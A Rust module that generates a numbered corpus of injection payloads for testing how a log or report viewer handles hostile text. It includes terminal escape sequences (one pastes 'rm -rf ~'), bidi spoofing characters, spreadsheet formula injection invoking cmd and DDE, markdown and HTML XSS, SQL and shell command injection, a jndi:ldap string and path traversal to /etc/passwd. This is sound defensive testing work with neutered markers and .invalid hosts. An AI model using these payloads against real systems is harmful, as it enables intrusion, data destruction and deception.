//! Texts that an attacker would write into a log line, a process name, a label or a title: made here out of classes, each with a
//! number that it reports when something runs it.
//!
//! Nothing in here is real: what a page runs calls `window.__casefile_pwned(N)`, and every address ends in `.invalid`, which
//! nobody can own (RFC 2606). `tests/e2e/hostile_report.rs` and `tests/page/hostile` see to it that neither happens.

mod page;

use std::collections::BTreeSet;

/// What a payload calls when it runs.
pub const MARKER: &str = "window.__casefile_pwned";

/// Where a payload leads when somebody follows it.
pub const ELSEWHERE: &str = "casefile-evil.invalid";

/// One text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// What it tries: a page, a terminal, a spreadsheet, …
    pub class: &'static str,
    /// The text.
    pub text: String,
}

/// All of them, in the same order each time, no text twice.
pub fn payloads() -> Vec<Payload> {
    let mut made = Made::default();
    for (class, make) in CLASSES {
        make(&mut |template: &str| made.take(class, template));
    }
    made.all
}

type Class = (&'static str, fn(&mut dyn FnMut(&str)));

/// How to add one: a function that says its templates. `¤` is the call, `№` the number, `%H` the host.
const CLASSES: [Class; 15] = [
    ("script", page::scripts),
    ("handler", page::handlers),
    ("handler in another spelling", page::spellings),
    ("attribute", page::attributes),
    ("code", page::code),
    ("address", page::addresses),
    ("style", page::styles),
    ("encoding", page::encodings),
    ("terminal", terminals),
    ("direction", directions),
    ("formula", formulas),
    ("markdown", markdown),
    ("metrics", metrics),
    ("query", queries),
    ("path", paths),
];

#[derive(Default)]
struct Made {
    all: Vec<Payload>,
    known: BTreeSet<String>,
}

impl Made {
    fn take(&mut self, class: &'static str, template: &str) {
        let number = self.all.len();
        let text = template
            .replace("%H", ELSEWHERE)
            .replace('¤', &format!("{MARKER}({number})"))
            .replace('№', &number.to_string());
        // Without its number a template would be a text twice.
        if self.known.insert(template.to_owned()) {
            self.all.push(Payload { class, text });
        }
    }
}

fn terminals(say: &mut dyn FnMut(&str)) {
    let esc = '\x1b';
    for sequence in [
        "[2J",
        "[H",
        "[31m",
        "[8m",
        "[?1049h",
        "[?25l",
        "[5n",
        "[6n",
        "[c",
        "[21t",
        "[20t",
        "[14t",
        "[10;10H",
        "[1;1r",
        "[?1000h",
        "[?2004l",
        "[200~rm -rf ~\n",
        "[4h",
        "[!p",
        "[>0;1c",
        "[1000000b",
        "c",
        "D",
        "E",
        "M",
        "7",
        "8",
        "=",
        ">",
        "#8",
        "Z",
        "n",
        "o",
        "N",
        "O",
        "(0",
        ")0",
        "(B",
        "*A",
        "%G",
        "%@",
        "-A",
        "kowned\x1b\\",
        "]0;owned\x07",
        "]2;owned\x1b\\",
        "]4;1;rgb:ff/00/00\x07",
        "]7;file:///etc\x07",
        "]8;;https://casefile-evil.invalid/\x07look\x1b]8;;\x07",
        "]8;;file:///etc/passwd\x1b\\look\x1b]8;;\x1b\\",
        "]9;owned\x07",
        "]10;#000000\x07",
        "]11;?\x07",
        "]50;CursorShape=1\x07",
        "]52;c;b3duZWQ=\x07",
        "]52;c;?\x07",
        "]104\x07",
        "]133;A\x07",
        "]777;notify;owned;owned\x07",
        "]1337;File=inline=1:b3duZWQ=\x07",
        "]1337;SetMark\x07",
        "P$q\"p\x1b\\",
        "P+q544e\x1b\\",
        "Pq#0;2;0;0;0#0~~\x1b\\",
        "Ptmux;\x1b\x1b]52;c;b3duZWQ=\x07\x1b\\",
        "_Gf=24;AAAA\x1b\\",
        "^owned\x1b\\",
        "Xowned\x1b\\",
    ] {
        say(&format!("{esc}{sequence} №"));
    }
    for text in [
        "\u{9b}2J №",
        "\u{9b}31m №",
        "\u{9d}0;owned\u{9c} №",
        "\u{90}$qm\u{9c} №",
        "\u{9f}owned\u{9c} №",
        "\u{9e}owned\u{9c} №",
        "\u{98}owned\u{9c} №",
        "\u{85}next line №",
        "\u{8d}up №",
        "\u{84}down №",
        "\u{88}tab stop №",
        "\u{8e}\u{8f} №",
        "all is well\roverwritten №",
        "longer\x08\x08\x08\x08\x08\x08short №",
        "\x07bell №",
        "\x0e lines drawn \x0f №",
        "\x05 who are you №",
        "\x0b\x0c page №",
        "\x18\x1a №",
        "\x7f\x7f deleted №",
        "\x1c\x1d\x1e\x1f №",
        "nul\0nul №",
        "\x11\x13 stopped №",
        "line one\nF1    FATAL node forged line №",
        "line one\r\nforged №",
        "\ttab\t№",
        "\x1b\x1b[2J №",
    ] {
        say(text);
    }
}

/// Everything that reorders or hides text: bidirectional controls, zero-width characters, fillers, tags, separators.
pub const HIDDEN: [char; 40] = [
    '\u{61c}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{2060}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{206a}',
    '\u{206b}',
    '\u{206c}',
    '\u{206d}',
    '\u{206e}',
    '\u{206f}',
    '\u{feff}',
    '\u{fff9}',
    '\u{fffa}',
    '\u{fffb}',
    '\u{2028}',
    '\u{2029}',
    '\u{ad}',
    '\u{34f}',
    '\u{180e}',
    '\u{115f}',
    '\u{3164}',
    '\u{ffa0}',
    '\u{e0041}',
    '\u{e007f}',
];

fn directions(say: &mut dyn FnMut(&str)) {
    for hidden in HIDDEN {
        say(&format!("invoice{hidden}fdp.exe №"));
    }
    for text in [
        "\u{202e}gnp.tacsac\u{202c} №",
        "\u{2067}if (admin)\u{2066} { }\u{2069}\u{2069} №",
        "\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} №",
        "раураl.com №",
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b} №",
        "\u{5d0}\u{5d1}\u{5d2} right to left of itself №",
        "\u{10ffff}\u{e000}\u{fdd0} №",
    ] {
        say(text);
    }
}

fn formulas(say: &mut dyn FnMut(&str)) {
    for formula in [
        "=1+№",
        "+1+№",
        "-1-№",
        "@SUM(A1:A№)",
        "=cmd|' /C calc'!A№",
        "+cmd|' /C calc'!A№",
        "-2+3+cmd|' /C calc'!A№",
        "@cmd|' /C calc'!A№",
        "=HYPERLINK(\"https://%H/№\",\"look\")",
        "=IMPORTXML(\"https://%H/№\",\"//a\")",
        "=WEBSERVICE(\"https://%H/№\")",
        "=DDE(\"cmd\";\"/C calc\";\"№\")",
        "\t=1+№",
        "\r=1+№",
        "\n=1+№",
        " =1+№",
        "\"=1+№",
        "\",=1+№",
        ";=1+№",
        "a;=1+№",
        "a,=1+№",
        "a\t=1+№",
        "a\n=1+№\n@b",
        "\u{ff1d}1+№",
        "\u{ff0b}1+№",
        "\u{ff0d}1+№",
        "\u{ff20}SUM(№)",
        "'=1+№",
        "%0A=1+№",
        "-№",
        "+№",
        "=№",
        "\"\"\"=1+№",
        "\u{a0}=1+№",
    ] {
        say(formula);
    }
}

fn markdown(say: &mut dyn FnMut(&str)) {
    for text in [
        "[look](javascript:¤)",
        "[look](https://%H/№)",
        "![look](https://%H/№.png)",
        "![look][№]\n\n[№]: https://%H/№",
        "[look]: https://%H/№",
        "[look]<https://%H/№>",
        "\\[look](https://%H/№)",
        "\\\\[look](https://%H/№)",
        "[look\\](https://%H/№)",
        "&#91;look](https://%H/№)",
        "<https://%H/№>",
        "<owner@%H>№",
        "https://%H/№",
        "http://%H/№",
        "ftp://%H/№",
        "www.%H/№",
        "mailto:owner№@%H",
        "owner№@%H",
        "xmpp:owner№@%H",
        "@everyone №",
        "<!channel> №",
        "<@U0№>",
        "<https://%H/№|look>",
        "`code` №",
        "```\ncode №\n```",
        "``` №",
        "~~~ №",
        "` ``<img src=x onerror=¤>`` `",
        "| a | b |\n|---|---|\n| № | |",
        "a | b №",
        "# heading №",
        "heading №\n===",
        "---\n№",
        "- [ ] task №",
        "> quote №",
        "1. list №",
        "**bold** __bold__ *i* _i_ ~~s~~ №",
        "[^№]: note",
        "$$\\href{https://%H/№}{x}$$",
        "$`\\url{https://%H/№}`$",
        "[[https://%H/№]]",
        "[look|https://%H/№]",
        "{toc}№",
        "!https://%H/№.png!",
        ":skull: №",
        "</details><img src=x onerror=¤>",
        "<!-- №",
        "\\<img src=x onerror=¤>",
        "line\n\n<img src=x onerror=¤>",
        "    indented №",
    ] {
        say(text);
    }
}

fn metrics(say: &mut dyn FnMut(&str)) {
    for text in [
        "\"} 1\nnode_forged №\n",
        "a\"\nnode_forged{x=\"№\"} 1",
        "\\\"} № 1",
        "a\\",
        "\\n# EOF\n№",
        "\n# EOF\n№",
        "\n# TYPE node_forged gauge\n№",
        "a\",instance=\"forged№",
        "{{ $labels.x }} №",
        "\r\n# EOF\r\n№",
    ] {
        say(text);
    }
}

fn queries(say: &mut dyn FnMut(&str)) {
    for text in [
        "'; DROP TABLE logs; -- №",
        "' OR '1'='1' -- №",
        "'||read_text('/etc/passwd')||'№",
        "\"; ATTACH '/tmp/№'; --",
        "'); COPY logs TO '/tmp/casefile-pwned-№'; --",
        "\\'; .shell touch /tmp/casefile-pwned-№",
        "$(touch /tmp/casefile-pwned-№)",
        "`touch /tmp/casefile-pwned-№`",
        "; touch /tmp/casefile-pwned-№ #",
        "|touch /tmp/casefile-pwned-№",
        "%s%s%n%n№",
        "{0}{}{:?}№",
        "${jndi:ldap://%H/№}",
    ] {
        say(text);
    }
}

fn paths(say: &mut dyn FnMut(&str)) {
    for text in [
        "../../../../etc/passwd№",
        "/etc/passwd№",
        "..\\..\\windows\\№",
        "%2e%2e%2f№",
        "a/b/../c№",
        "-rf №",
        "--output=/tmp/casefile-pwned-№",
        "~root/№",
        "CON№.txt",
        ".№",
        "a\0b№",
    ] {
        say(text);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_five_hundred_and_more_of_every_class_and_none_twice() {
        let all = payloads();
        assert!(all.len() >= 500, "{}", all.len());
        let texts: BTreeSet<_> = all.iter().map(|payload| &payload.text).collect();
        assert_eq!(texts.len(), all.len());
        for (class, _) in CLASSES {
            assert!(all.iter().filter(|payload| payload.class == class).count() >= 10, "{class}");
        }
        assert!(all.iter().all(|payload| !payload.text.contains(['¤', '№']) && !payload.text.contains("%H")));
    }

    #[test]
    fn what_runs_says_its_own_number() {
        let all = payloads();
        for (number, payload) in all.iter().enumerate() {
            for call in payload.text.split("_casefile_pwned(").skip(1) {
                assert_eq!(call.split(')').next(), Some(number.to_string().as_str()), "{payload:?}");
            }
        }
        assert!(all.iter().filter(|payload| payload.text.contains("__casefile_pwned(")).count() >= 300);
    }
}
